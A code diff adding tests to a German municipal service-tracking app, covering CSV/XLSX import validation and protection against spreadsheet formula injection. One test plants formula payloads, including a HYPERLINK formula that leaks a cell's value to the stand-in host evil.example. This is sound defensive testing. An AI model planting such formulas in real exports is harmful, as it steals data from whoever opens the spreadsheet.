@@ -1,9 +1,10 @@
 import { readFileSync } from 'node:fs'
 import { resolve } from 'node:path'
-import { and, eq, sql } from 'drizzle-orm'
+import { and, eq, isNotNull, sql } from 'drizzle-orm'
 import ExcelJS from 'exceljs'
 import { expect, it } from 'vitest'
-import { auditLog, counties, importUploads, services, statusChanges, statuses, users } from '../../db/schema'
+import { auditLog, counties, importUploads, services, statusChanges, statuses, users, fachverfahren, onlineServices, vendors } from '../../db/schema'
+import { seedDatabase } from '../../seeds/seed.server'
 import { describeEachEngine } from '../support/database'
 import type { SessionUser } from '~/domain/permissions'
 import { formatStatusCsv, STATUS_CSV_COLUMNS, toCsvRecord, type StatusCsvRecord } from '~/domain/status-csv'
@@ -12,6 +13,7 @@ import { applyImport, MAX_STATUS_IMPORT_BYTES, MAX_STATUS_IMPORT_LABEL, packImpo
 import { applyCatalogueImport, previewCatalogueImport } from '~/models/catalogue-import.server'
 import { createSession } from '~/models/session.server'
 import * as importRoute from '~/routes/import'
+import { readCsv } from '~/utils/csv.server'
 import { getDb } from '~/utils/db.server'
 
 async function sessionUser(email: string): Promise<SessionUser> {
@@ -191,6 +193,23 @@ describeEachEngine(
       expect(preview.errors[0].message).toMatch(message)
     })
 
+    it('names the column umsetzungsweg for a row that is online while the Umsetzungsweg is offen', async () => {
+      const coordinator = await sessionUser('koordination@demo.invalid')
+      const records = (await countyCsv('03351')).records.slice(0, 2)
+      records[1] = { ...records[1], umsetzungsweg: 'offen', planung: '', fortschritt: 'online', online_dienst: '', anbindung: '' }
+      const preview = await previewImport(csvFile('online-offen.csv', withRecords(records)), coordinator)
+      expect(preview.errors).toEqual([{ line: 3, column: 'umsetzungsweg', message: '„Online“ oder „teilweise online“ geht nur mit dem Umsetzungsweg „eigen“ oder „efa“.' }])
+    })
+
+    it('reports all errors of a row in one pass: its key, its values and the rules between them', async () => {
+      const coordinator = await sessionUser('koordination@demo.invalid')
+      const records = (await countyCsv('03351')).records.slice(0, 2)
+      records[1] = { ...records[1], ags: '09999', umsetzungsweg: 'offen', planung: '', fortschritt: 'online', online_dienst: '', anbindung: 'produktiv', zieltermin: 'bald', ende_zu_ende: 'vielleicht' }
+      const preview = await previewImport(csvFile('alles-falsch.csv', withRecords(records)), coordinator)
+      expect(preview.errors.every((e) => e.line === 3)).toBe(true)
+      expect(preview.errors.map((e) => e.column).sort()).toEqual(['ags', 'anbindung', 'ende_zu_ende', 'umsetzungsweg', 'zieltermin'])
+    })
+
     it('reports a duplicate row with the line of the first', async () => {
       const coordinator = await sessionUser('koordination@demo.invalid')
       const records = (await countyCsv('03351')).records.slice(0, 3)
@@ -331,6 +350,16 @@ describeEachEngine(
         data: { errors: Record<string, string> }
       }
       expect(none.data.errors.datei).toBe('Wählen Sie eine CSV- oder XLSX-Datei aus.')
+
+      const emptyFile = new FormData()
+      emptyFile.set('intent', 'preview')
+      emptyFile.set('datei', new File([], 'leer.csv', { type: 'text/csv' }))
+      const blank = (await importRoute.action({ request: new Request(`${origin}/import`, { method: 'POST', headers: await headers(editor.id), body: emptyFile }), params: {}, context: {} })) as {
+        data: { errors: Record<string, string> }
+        init: ResponseInit | null
+      }
+      expect(blank.init?.status).toBe(400)
+      expect(blank.data.errors.datei).toMatch(/^Die Datei ist leer\./)
     })
 
     it('a row someone else changed after the preview, that the file leaves as it was, keeps their change', async () => {
@@ -398,6 +427,106 @@ describeEachEngine(
       expect(result.preview?.token).toBeTruthy()
       expect(result.preview?.token).not.toBe(preview.token)
       expect(await applyImport(result.preview!.token!, editor)).toMatchObject({ ok: true, changed: 2 })
+    })
+
+    it('guards formula-like text in every free-text column; the export re-imports unchanged, an edit keeps the text exactly', async () => {
+      const coordinator = await sessionUser('koordination@demo.invalid')
+      const db = await getDb()
+      // A Celle row with an online service and a Fachverfahren: every text column has a value.
+      const [target] = await db
+        .select({ id: statuses.id, countyId: statuses.countyId, serviceId: statuses.serviceId, onlineServiceId: statuses.onlineServiceId, fachverfahrenId: statuses.fachverfahrenId, ozgId: services.ozgId })
+        .from(statuses)
+        .innerJoin(counties, eq(counties.id, statuses.countyId))
+        .innerJoin(services, eq(services.id, statuses.serviceId))
+        .where(and(eq(counties.ags, '03351'), isNotNull(statuses.onlineServiceId), isNotNull(statuses.fachverfahrenId)))
+        .orderBy(services.ozgId)
+        .limit(1)
+      expect(target).toBeDefined()
+      const [fv] = await db.select({ vendorId: fachverfahren.vendorId, name: fachverfahren.name }).from(fachverfahren).where(eq(fachverfahren.id, target.fachverfahrenId!))
+      const [os] = await db.select({ name: onlineServices.name }).from(onlineServices).where(eq(onlineServices.id, target.onlineServiceId!))
+      const [vendor] = await db.select({ name: vendors.name }).from(vendors).where(eq(vendors.id, fv.vendorId))
+      const [service] = await db.select({ name: services.name }).from(services).where(eq(services.id, target.serviceId))
+      const [county] = await db.select({ name: counties.name }).from(counties).where(eq(counties.id, target.countyId))
+      const formulas = {
+        onlineService: '=HYPERLINK("https://evil.example/?x="&A1;"Dienst")',
+        fachverfahren: '+Fachverfahren',
+        vendor: '@Hersteller',
+        service: '=Leistung',
+        county: '-Celle',
+      }
+      await db.update(onlineServices).set({ name: formulas.onlineService }).where(eq(onlineServices.id, target.onlineServiceId!))
+      await db.update(fachverfahren).set({ name: formulas.fachverfahren }).where(eq(fachverfahren.id, target.fachverfahrenId!))
+      await db.update(vendors).set({ name: formulas.vendor }).where(eq(vendors.id, fv.vendorId))
+      await db.update(services).set({ name: formulas.service }).where(eq(services.id, target.serviceId))
+      await db.update(counties).set({ name: formulas.county }).where(eq(counties.id, target.countyId))
+      const texts = { note: '=1+2', contact: '-Fachdienst Bauordnung', fundingNote: '@SUMME(A1:A9)', interfaceStandard: "'=schon mit Apostroph" }
+      await db.update(statuses).set(texts).where(eq(statuses.id, target.id))
+      try {
+        const rows = await listStatusRows({ kreis: '03351' })
+        const text = formatStatusCsv(rows.map(toCsvRecord))
+        // No cell of the file starts the way a spreadsheet would evaluate.
+        const table = readCsv(text)
+        const evaluated = table.rows.flatMap((r) => Object.entries(r.values).filter(([, cell]) => /^[=+\-@\t\r]/.test(cell)).map(([column, cell]) => `${r.line} ${column}: ${cell}`))
+        expect(evaluated).toEqual([])
+        const cells = table.rows.find((r) => r.values.ozg_id === target.ozgId)!.values
+        expect(cells).toMatchObject({
+          kreis: "'-Celle",
+          leistung: "'=Leistung",
+          online_dienst: `'${formulas.onlineService}`,
+          fachverfahren: "'+Fachverfahren",
+          hersteller: "'@Hersteller",
+          schnittstellenstandard: "''=schon mit Apostroph",
+          finanzierungsnotiz: "'@SUMME(A1:A9)",
+          kontakt: "'-Fachdienst Bauordnung",
+          notiz: "'=1+2",
+        })
+
+        // Export → import changes nothing, as CSV and as XLSX.
+        const history = await historyCount()
+        const again = await previewImport(csvFile('formeln.csv', text), coordinator)
+        expect(again.errors).toEqual([])
+        expect(again.counts).toEqual({ new: 0, changed: 0, unchanged: 557 })
+        const workbookBytes = new Uint8Array(await buildStatusXlsx(rows))
+        const fromXlsx = await previewImport({ name: 'formeln.xlsx', bytes: workbookBytes }, coordinator)
+        expect(fromXlsx.errors).toEqual([])
+        expect(fromXlsx.counts).toEqual({ new: 0, changed: 0, unchanged: 557 })
+        expect(await historyCount()).toBe(history)
+
+        // The workbook holds text cells with the text as it is: no formula, no apostrophe.
+        const workbook = new ExcelJS.Workbook()
+        await workbook.xlsx.load(workbookBytes as never)
+        const sheet = workbook.worksheets[0]
+        const header = (sheet.getRow(1).values as string[]).slice(1)
+        let formulaCells = 0
+        sheet.eachRow((row) => row.eachCell((cell) => void (cell.type === ExcelJS.ValueType.Formula && formulaCells++)))
+        expect(formulaCells).toBe(0)
+        let found = 0
+        sheet.eachRow((row) => {
+          if (row.getCell(header.indexOf('ozg_id') + 1).value !== target.ozgId) return
+          found++
+          const cell = (column: string) => row.getCell(header.indexOf(column) + 1)
+          expect(cell('notiz').type).toBe(ExcelJS.ValueType.String)
+          expect(cell('notiz').value).toBe('=1+2')
+          expect(cell('online_dienst').value).toBe(formulas.onlineService)
+          expect(cell('schnittstellenstandard').value).toBe("'=schon mit Apostroph")
+        })
+        expect(found).toBe(1)
+
+        // An edit in the file: the import takes off exactly the one guarding apostrophe.
+        const records = rows.map(toCsvRecord).map((r) => (r.ozg_id === target.ozgId ? { ...r, notiz: '=SUMME(B2)', kontakt: "'@zitiert", finanzierungsnotiz: '+49 5141 0' } : r))
+        const edited = await previewImport(csvFile('formeln-bearbeitet.csv', withRecords(records)), coordinator)
+        expect(edited.errors).toEqual([])
+        expect(edited.counts).toEqual({ new: 0, changed: 1, unchanged: 556 })
+        expect(await applyImport(edited.token!, coordinator)).toMatchObject({ ok: true, changed: 1 })
+        const [stored] = await db.select({ note: statuses.note, contact: statuses.contact, fundingNote: statuses.fundingNote, interfaceStandard: statuses.interfaceStandard }).from(statuses).where(eq(statuses.id, target.id))
+        expect(stored).toEqual({ note: '=SUMME(B2)', contact: "'@zitiert", fundingNote: '+49 5141 0', interfaceStandard: "'=schon mit Apostroph" })
+      } finally {
+        await db.update(onlineServices).set({ name: os.name }).where(eq(onlineServices.id, target.onlineServiceId!))
+        await db.update(fachverfahren).set({ name: fv.name }).where(eq(fachverfahren.id, target.fachverfahrenId!))
+        await db.update(vendors).set({ name: vendor.name }).where(eq(vendors.id, fv.vendorId))
+        await db.update(services).set({ name: service.name }).where(eq(services.id, target.serviceId))
+        await db.update(counties).set({ name: county.name }).where(eq(counties.id, target.countyId))
+      }
     })
 
     // Last in this suite: it changes the catalogue the other tests read.
